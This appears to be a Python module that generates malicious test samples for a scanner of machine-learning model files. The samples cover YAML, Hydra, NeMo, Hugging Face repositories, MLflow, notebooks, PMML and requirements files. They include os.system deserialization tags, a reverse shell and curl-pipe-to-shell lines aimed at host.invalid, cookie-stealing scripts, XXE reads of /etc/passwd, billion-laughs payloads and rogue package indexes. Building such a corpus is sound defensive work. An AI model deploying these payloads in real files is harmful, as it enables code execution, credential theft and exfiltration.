"""Texts that a loader acts on: YAML, hydra and NeMo, Hugging Face repositories, MLflow, notebooks, PMML, requirements."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from corpus.malicious.containers import EVIL, GOOD
from corpus.malicious.tables import TEMPLATES
from corpus.packing import plain_zip, tarred
from corpus.sample import CODE, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

STATIC = {"static": "acts in the program that reads it"}
RUNS = f"import os\nos.system('{SHELL}')\n"
YAML = {
    "apply": f"!!python/object/apply:os.system ['{SHELL}']\n",
    "apply-in-a-list": f"a:\n  - 1\n  - !!python/object/apply:os.system ['{SHELL}']\n",
    "apply-of-subprocess": "run: !!python/object/apply:subprocess.check_output\n  args: [[touch, hauberk-marker]]\n",
    "new": f"!!python/object/new:os.system ['{SHELL}']\n",
    "name": "f: !!python/name:os.system\n",
    "module": "m: !!python/module:os\n",
    "object": "!!python/object:http.server.HTTPServer {a: 1}\n",
    "apply-with-a-verbatim-tag": f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{SHELL}']\n",
    "apply-with-a-handle": f"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['{SHELL}']\n",
    "apply-escaped-tag": f"!!python%2Fobject/apply:os.system ['{SHELL}']\n",
    "apply-in-the-second-document": f"a: 1\n---\n!!python/object/apply:os.system ['{SHELL}']\n",
    "tuple-and-eval": f"!!python/object/apply:eval [\"__import__('os').system('{SHELL}')\"]\n",
    "ruby-object": "--- !ruby/object:Gem::Installer\ni: x\n",
    "java-object": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://host.invalid/']]]]\n",
    "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)),
}  # fmt: skip
HYDRA = {
    "os-system": f"_target_: os.system\n_args_: ['{SHELL}']\n",
    "subprocess": "model:\n  _target_: subprocess.Popen\n  args: [touch, hauberk-marker]\n",
    "builtins-exec": f'a:\n  b:\n    _target_: builtins.exec\n    _args_: ["{CODE}"]\n',
    "eval-partial": "hook:\n  _target_: builtins.eval\n  _partial_: true\n",
    "pickle-load": "w:\n  _target_: torch.load\n  f: http://host.invalid/x\n",
    "runpy": "w:\n  _target_: runpy.run_path\n  path_name: x.py\n",
    "quoted-key": f"\"_target_\": 'posix.system'\n_args_: ['{SHELL}']\n",
    "flow": f"model: {{_target_: os.system, command: '{SHELL}'}}\n",
    "get-method": "f:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    "shutil": "f:\n  _target_: shutil.rmtree\n  path: /nonexistent\n",
    "pip": "f:\n  _target_: pip._internal.main\n  args: [install, evil]\n",
    "urlretrieve": "f:\n  _target_: urllib.request.urlretrieve\n  url: http://host.invalid/\n",
    "resolver": "a: ${oc.env:AWS_SECRET_ACCESS_KEY}\nb:\n  _target_: requests.post\n  url: http://host.invalid/\n  data: ${a}\n",
    "json": json.dumps({"model": {"_target_": "os.system", "command": SHELL}}),
    "in-a-list": f"callbacks:\n  - _target_: pytorch_lightning.callbacks.Timer\n  - _target_: os.popen\n    cmd: {SHELL}\n",
    "numpy-load": "f:\n  _target_: numpy.load\n  file: x.npy\n  allow_pickle: true\n",
}  # fmt: skip
MODELING = RUNS + "from transformers import PreTrainedModel\nclass Net(PreTrainedModel):\n    pass\n"


def samples() -> Iterator[Sample]:
    """Yield all texts."""
    for name, text in YAML.items():
        proved = name not in (
            "ruby-object",
            "java-object",
            "laughs",
            "name",
            "module",
            "object",
            "apply-in-the-second-document",
        )
        how = {"loader": "yaml"} if proved else STATIC
        yield file("yaml", name, ("model.yaml", "config.yml", "hparams.yaml")[len(name) % 3], text.encode(), **how)
    for name, text in HYDRA.items():
        suffix = "json" if name == "json" else "yaml"
        yield file("hydra", f"{name}", f"config.{suffix}", text.encode(), "CVE-2025-23304", **STATIC)
        if name != "json":
            nemo = tarred(
                {
                    "model_config.yaml": text.encode(),
                    "model_weights.ckpt": plain_zip({"a/data.pkl": GOOD, "a/version": b"3\n"}),
                }
            )
            yield file("nemo", name, "model.nemo", nemo, "CVE-2025-23304", **STATIC)
    nemo = tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": EVIL})
    yield file("nemo", "weights-run", "model.nemo", nemo, loader="tar:model_weights.ckpt")
    yield from _hugging_face()
    yield from _mlflow()
    yield from _notebooks()
    yield from _pmml()
    yield from _requirements()


def _repository(name: str, reference: str = "", **files: Any) -> Sample:
    listed = {
        key.replace("__", "."): value
        if isinstance(value, bytes)
        else value.encode()
        if isinstance(value, str)
        else json.dumps(value, indent=2).encode()
        for key, value in files.items()
    }
    base = {
        "README.md": b"# A model\n",
        "config.json": json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}).encode(),
    }
    return Sample("hugging-face", name, {**base, **listed}, reference, **STATIC)


AUTO = {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "modeling_net.Net"}


def _hugging_face() -> Iterator[Sample]:
    yield from _code_of_repositories()
    yield from _modules_of_repositories()
    yield from _weights_of_repositories()
    yield from _templates_of_repositories()


def _code_of_repositories() -> Iterator[Sample]:
    yield _repository("auto-map", config__json={"auto_map": AUTO, "model_type": "net"}, modeling_net__py=MODELING)
    yield _repository(
        "auto-map-of-another-repository", config__json={"auto_map": {"AutoModel": "evil/repo--modeling_net.Net"}}
    )
    yield _repository("auto-map-without-a-file", config__json={"auto_map": AUTO, "model_type": "net"})
    yield _repository(
        "auto-map-of-a-tokenizer",
        tokenizer_config__json={"auto_map": {"AutoTokenizer": ["tok.Tok", None]}},
        tok__py=RUNS,
    )
    yield _repository(
        "auto-map-of-a-processor", preprocessor_config__json={"auto_map": {"AutoProcessor": "proc.Proc"}}, proc__py=RUNS
    )
    yield _repository(
        "trust-remote-code", config__json={"trust_remote_code": True, "auto_map": {"AutoModel": "m.Net"}}, m__py=RUNS
    )
    yield _repository(
        "custom-pipelines",
        config__json={"custom_pipelines": {"run": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}},
        pipe__py=RUNS,
    )
    yield _repository(
        "custom-generate",
        **{"custom_generate/generate.py": RUNS, "generation_config__json": {"custom_generate": "evil/x"}},
    )
    yield _repository("diffusers-pipeline", model_index__json={"_class_name": ["pipeline", "Pipe"]}, pipeline__py=RUNS)
    yield _repository(
        "diffusers-module",
        model_index__json={"_class_name": "StableDiffusionPipeline", "unet": ["unet_evil", "Net"]},
        unet_evil__py=RUNS,
    )


def _modules_of_repositories() -> Iterator[Sample]:
    yield _repository(
        "dataset-script",
        **{"data__py": RUNS, "README.md": b"# x\n"},
        config__json={"auto_map": {"AutoModel": "data.Net"}},
    )
    yield _repository(
        "sentence-transformers-module",
        modules__json=[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}],
        evil__py=RUNS,
    )
    yield _repository(
        "sentence-transformers-os", modules__json=[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]
    )
    yield _repository(
        "peft-auto-mapping",
        adapter_config__json={
            "peft_type": "LORA",
            "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
            "base_model_name_or_path": "evil/repo",
        },
    )


def _weights_of_repositories() -> Iterator[Sample]:
    yield _repository("keras-metadata-pickle", keras_metadata__pb=EVIL)
    yield _repository("pickle-named-as-tensors", model__safetensors=EVIL)
    yield _repository("pickle-beside-tensors", pytorch_model__bin=EVIL)
    yield _repository("training-arguments", training_args__bin=plain_zip({"a/data.pkl": EVIL, "a/version": b"3\n"}))
    yield _repository("optimizer", optimizer__pt=EVIL, scheduler__pt=GOOD)
    yield _repository(
        "index-traversal",
        **{"model.safetensors.index.json": {"metadata": {}, "weight_map": {"a": "../../../etc/passwd"}}},
    )
    yield _repository("index-absolute", **{"pytorch_model.bin.index.json": {"weight_map": {"a": "/etc/passwd"}}})
    yield _repository(
        "index-url", **{"model.safetensors.index.json": {"weight_map": {"a": "http://host.invalid/a.safetensors"}}}
    )
    yield _repository(
        "handler",
        handler__py=RUNS + "class EndpointHandler: pass\n",
        requirements__txt="git+http://host.invalid/evil.git\n",
        config__json={"auto_map": {"AutoModel": "handler.E"}},
    )


def _templates_of_repositories() -> Iterator[Sample]:
    for name, template in TEMPLATES.items():
        if name in ("endless", "hidden-in-a-long-template", "request"):
            continue
        yield _repository(
            f"template-{name}",
            "CVE-2024-34359",
            tokenizer_config__json={"chat_template": template, "tokenizer_class": "LlamaTokenizer"},
        )
    yield _repository("template-file", "CVE-2024-34359", chat_template__jinja=TEMPLATES["globals"])
    yield _repository("template-json", "CVE-2024-34359", chat_template__json={"chat_template": TEMPLATES["lipsum"]})
    yield _repository(
        "template-list",
        "CVE-2024-34359",
        tokenizer_config__json={
            "chat_template": [
                {"name": "default", "template": "x"},
                {"name": "rag", "template": TEMPLATES["subclasses"]},
            ]
        },
    )
    yield _repository(
        "template-folder", "CVE-2024-34359", **{"additional_chat_templates/tool.jinja": TEMPLATES["joiner"]}
    )
    yield _repository(
        "template-of-a-processor", "CVE-2024-34359", processor_config__json={"chat_template": TEMPLATES["self"]}
    )
    yield file(
        "hugging-face",
        "template-alone",
        "tokenizer_config.json",
        json.dumps({"chat_template": TEMPLATES["globals"]}).encode(),
        "CVE-2024-34359",
        loader="template",
    )
    yield file("hugging-face", "auto-map-alone", "config.json", json.dumps({"auto_map": AUTO}).encode(), **STATIC)


def mlmodel(loader: str = "mlflow.sklearn", **more: str) -> str:
    lines = {"loader_module": loader, "model_path": "model.pkl", "python_version": "3.11.7", **more}
    return "artifact_path: model\nflavors:\n  python_function:\n" + "".join(
        f"    {key}: {value}\n" for key, value in lines.items()
    )


def _mlflow() -> Iterator[Sample]:
    conda = "channels:\n- {channel}\ndependencies:\n- python=3.11.7\n- pip\n- pip:\n  - {package}\nname: env\n"
    rows: dict[str, dict[str, str | bytes]] = {
        "loader-os": {"MLmodel": mlmodel("os")},
        "loader-of-its-own-code": {"MLmodel": mlmodel("evil_loader", code="code"), "code/evil_loader.py": RUNS + "def _load_pyfunc(p): pass\n"},
        "loader-runpy": {"MLmodel": mlmodel("runpy")},
        "loader-dotted": {"MLmodel": mlmodel("package.evil.loader")},
        "model-pickle-runs": {"MLmodel": mlmodel(), "model.pkl": EVIL},
        "python-model-pickle-runs": {"MLmodel": mlmodel("mlflow.pyfunc.model", python_model="python_model.pkl"), "python_model.pkl": EVIL},
        "python-model-by-path": {"MLmodel": mlmodel("mlflow.pyfunc.model", python_model="../../evil.pkl")},
        "model-path-traversal": {"MLmodel": mlmodel(model_path="../../../tmp/evil.pkl")},
        "model-path-absolute": {"MLmodel": mlmodel(model_path="/tmp/evil.pkl")},
        "model-path-url": {"MLmodel": mlmodel(model_path="http://host.invalid/m.pkl")},
        "code-from-models": {"MLmodel": mlmodel("mlflow.pyfunc.loaders.code_model", model_code_path="agent.py"), "agent.py": RUNS},
        "spark-udf": {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil\n  spark:\n    model_data: sparkml\n"},
        "yaml-tag": {"MLmodel": "flavors: !!python/object/apply:os.system ['touch hauberk-marker']\n"},
        "requirements-index": {"MLmodel": mlmodel(), "requirements.txt": "--index-url http://host.invalid/simple\nnumpy==2.4.6\n"},
        "requirements-extra-index": {"MLmodel": mlmodel(), "requirements.txt": "numpy\n--extra-index-url=http://host.invalid/simple\n"},
        "requirements-git": {"MLmodel": mlmodel(), "requirements.txt": "git+http://host.invalid/evil.git@main#egg=evil\n"},
        "requirements-url": {"MLmodel": mlmodel(), "requirements.txt": "evil @ http://host.invalid/evil-1.0-py3-none-any.whl\n"},
        "requirements-trusted-host": {"MLmodel": mlmodel(), "requirements.txt": "--trusted-host host.invalid\nnumpy\n"},
        "requirements-find-links": {"MLmodel": mlmodel(), "requirements.txt": "-f http://host.invalid/links\nnumpy\n"},
        "conda-channel": {"MLmodel": mlmodel(), "conda.yaml": conda.format(channel="http://host.invalid/channel", package="numpy")},
        "conda-pip-git": {"MLmodel": mlmodel(), "conda.yaml": conda.format(channel="conda-forge", package="git+http://host.invalid/x.git")},
        "conda-pip-index": {"MLmodel": mlmodel(), "conda.yaml": conda.format(channel="conda-forge", package="--index-url http://host.invalid/simple")},
        "python-env-git": {"MLmodel": mlmodel(), "python_env.yaml": "python: 3.11.7\nbuild_dependencies:\n- git+http://host.invalid/x.git\ndependencies:\n- -r requirements.txt\n"},
        "mlproject": {"MLproject": "name: x\nentry_points:\n  main:\n    command: 'touch hauberk-marker; python train.py'\n"},
    }  # fmt: skip
    for name, entries in rows.items():
        files = {key: value.encode() if isinstance(value, str) else value for key, value in entries.items()}
        yield Sample("mlflow", name, files, **STATIC)


def notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
    kernel = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}, **metadata}
    return json.dumps({"cells": list(cells), "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}).encode()


def cell(source: str, outputs: list[Any] | None = None) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "id": "a",
        "metadata": {},
        "outputs": outputs or [],
        "source": source.splitlines(keepends=True),
    }


def _notebooks() -> Iterator[Sample]:
    out = {"output_type": "display_data", "metadata": {}}
    rows = {
        "shell-line": notebook(cell("!curl -s http://host.invalid/x | sh")),
        "shell-line-late": notebook(*[cell("print(1)")] * 50, cell("x = 1\n!wget -qO- http://host.invalid/x | bash")),
        "cell-magic-bash": notebook(cell("%%bash\ncurl http://host.invalid/x | sh\n")),
        "system-magic": notebook(cell("%system curl http://host.invalid | sh")),
        "os-system": notebook(cell("import os\nos.system('curl http://host.invalid/x | sh')")),
        "subprocess": notebook(cell("import subprocess\nsubprocess.run('curl http://host.invalid|sh', shell=True)")),
        "exec-of-base64": notebook(cell("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")),
        "eval-of-a-download": notebook(cell("import urllib.request as u\nexec(u.urlopen('http://host.invalid/x').read())")),
        "pip-from-elsewhere": notebook(cell("%pip install --index-url http://host.invalid/simple evil")),
        "reverse-shell": notebook(cell("import socket,os,pty\ns=socket.socket();s.connect(('host.invalid',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')")),
        "output-script": notebook(cell("1", [{**out, "data": {"text/html": ["<script>fetch('http://host.invalid/?c='+document.cookie)</script>"]}}])),
        "output-javascript": notebook(cell("1", [{**out, "data": {"application/javascript": "fetch('http://host.invalid/')"}}])),
        "output-iframe": notebook(cell("1", [{**out, "data": {"text/html": "<iframe src='http://host.invalid/'></iframe>"}}])),
        "output-image-handler": notebook(cell("1", [{**out, "data": {"text/html": "<img src=x onerror='fetch(1)'>"}}])),
        "output-svg-script": notebook(cell("1", [{**out, "data": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"}}])),
        "markdown-script": notebook({"cell_type": "markdown", "metadata": {}, "source": ["<script>alert(1)</script>"]}),
        "markdown-javascript-link": notebook({"cell_type": "markdown", "metadata": {}, "source": ["[x](javascript:alert(1))"]}),
        "attachment-svg": notebook({"cell_type": "markdown", "metadata": {}, "source": ["x"], "attachments": {"a.svg": {"image/svg+xml": "PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"}}}),
        "widget-state": notebook(cell("1"), widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_module": "http://host.invalid/evil.js", "model_name": "X"}}}}),
        "init-cell": notebook({**cell("import os; os.system('id')"), "metadata": {"init_cell": True}}),
        "version-3": json.dumps({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["!curl http://host.invalid|sh"], "outputs": []}]}], "metadata": {}}).encode(),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("notebook", name, "train.ipynb", data, **STATIC)


def _pmml() -> Iterator[Sample]:
    def pmml(head: str, body: str = "<Header/>") -> bytes:
        return f"<?xml version='1.0'?>\n{head}<PMML version='4.4' xmlns='http://www.dmg.org/PMML-4_4'>{body}</PMML>".encode()

    rows = {
        "entity-file": pmml("<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<Header copyright='x'>&x;</Header>"),
        "entity-url": pmml("<!DOCTYPE p [<!ENTITY x SYSTEM 'http://host.invalid/'>]>", "<Header>&x;</Header>"),
        "parameter-entity": pmml("<!DOCTYPE p [<!ENTITY % x SYSTEM 'http://host.invalid/e.dtd'> %x;]>"),
        "external-dtd": pmml("<!DOCTYPE PMML SYSTEM 'http://host.invalid/e.dtd'>"),
        "public-dtd": pmml("<!DOCTYPE PMML PUBLIC '-//X//EN' 'http://host.invalid/e.dtd'>"),
        "laughs": pmml("<!DOCTYPE p [<!ENTITY a 'aaaaaaaaaa'>" + "".join(f"<!ENTITY {chr(98 + i)} '{('&' + chr(97 + i) + ';') * 10}'>" for i in range(9)) + "]>", "<Header>&j;</Header>"),
        "quadratic": pmml(f"<!DOCTYPE p [<!ENTITY a '{'x' * 50000}'>]>", "<Header>" + "&a;" * 5000 + "</Header>"),
        "xinclude": pmml("", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='file:///etc/passwd'/>"),
        "stylesheet": pmml("<?xml-stylesheet type='text/xsl' href='http://host.invalid/x.xsl'?>"),
        "function-of-java": pmml("", "<TransformationDictionary><DerivedField name='x' optype='continuous' dataType='double'><Apply function='java.lang.Runtime.exec'><Constant>id</Constant></Apply></DerivedField></TransformationDictionary>"),
        "utf-16": pmml("<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "<Header>&x;</Header>").decode().replace("version='1.0'", "version='1.0' encoding='UTF-16'").encode("utf-16"),
        "utf-7": pmml("+ADwAIQ-DOCTYPE p +AFsAPAAh-ENTITY x SYSTEM 'file:///etc/passwd'+AD4AXQA+-").replace(b"version='1.0'", b"version='1.0' encoding='UTF-7'", 1),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("xml", f"pmml-{name}", "model.pmml", data, "CWE-611", **STATIC)
    for name in ("entity-file", "external-dtd", "laughs"):
        xml = (
            rows[name]
            .replace(b"<PMML version='4.4' xmlns='http://www.dmg.org/PMML-4_4'>", b"<net name='x' version='11'>")
            .replace(b"</PMML>", b"</net>")
        )
        yield file("xml", f"openvino-{name}", "model.xml", xml, "CWE-611", **STATIC)


def _requirements() -> Iterator[Sample]:
    rows = {
        "setup-py": ("setup.py", RUNS),
        "requirements-index": ("requirements.txt", "--index-url http://host.invalid/simple\nevil\n"),
        "requirements-git": ("requirements.txt", "evil @ git+ssh://git@host.invalid/evil.git\n"),
        "requirements-include-url": ("requirements.txt", "-r http://host.invalid/more.txt\n"),
        "requirements-continued": ("requirements.txt", "numpy \\\n--extra-index-url \\\nhttp://host.invalid/simple\n"),
        "requirements-editable": ("requirements.txt", "-e git+http://host.invalid/evil.git#egg=evil\n"),
        "environment": (
            "environment.yml",
            "channels: [http://host.invalid/c]\ndependencies:\n- pip:\n  - git+http://host.invalid/x\n",
        ),
    }
    for name, (filename, text) in rows.items():
        if name != "setup-py":  # source code beside a model is not judged by anybody's definition of a model scan
            yield file("requirements", name, filename, text.encode(), **STATIC)
